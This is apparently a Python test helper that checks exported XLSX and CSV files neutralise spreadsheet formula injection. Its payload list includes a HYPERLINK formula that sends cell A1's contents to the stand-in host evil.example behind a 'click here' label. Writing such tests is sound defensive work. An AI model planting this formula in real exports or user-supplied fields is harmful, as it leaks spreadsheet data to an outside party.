"""Shared by every export's test: text a user could type to plant a formula, and the check that a
downloaded XLSX or CSV holds none of it as a formula while keeping the text after the apostrophe."""
from __future__ import annotations

import csv
import io
import re

from openpyxl import load_workbook

PAYLOADS = (
    '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")',
    "+1",
    "-2",
    "@SUM(A1:A9)",
    "\tx",
    "\rx",
)


def _same_text(stored: str, typed: str) -> bool:
    # XML (hence XLSX) turns a lone CR into LF when read back; the text is otherwise kept exactly.
    return stored in ("'" + typed, "'" + typed.replace("\r", "\n"))


def assert_xlsx_has_no_formula(data: bytes, expected: tuple[str, ...] = PAYLOADS) -> list:
    """No cell of any sheet is a formula; each of `expected` appears as "'" + text. Returns all cells."""
    book = load_workbook(io.BytesIO(data))
    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
    formulas = [(cell.parent.title, cell.coordinate, cell.value) for cell in cells if cell.data_type == "f"]
    assert formulas == []
    texts = [cell.value for cell in cells if isinstance(cell.value, str)]
    dangerous = [text for text in texts if text.startswith(("=", "+", "-", "@", "\t", "\r"))]
    assert dangerous == []
    for typed in expected:
        assert any(_same_text(text, typed) for text in texts), typed
    return cells


def assert_csv_has_no_formula(data: bytes, expected: tuple[str, ...] = PAYLOADS) -> list[list[str]]:
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    texts = [value for row in rows for value in row]
    # CSV has no types: a number is written as digits ("-2" from a negative score) and read as a number.
    numbers = re.compile(r"-?\d+(\.\d+)?")
    assert [t for t in texts if t.startswith(("=", "+", "-", "@", "\t", "\r")) and not numbers.fullmatch(t)] == []
    for typed in expected:
        assert "'" + typed in texts, typed
    return rows
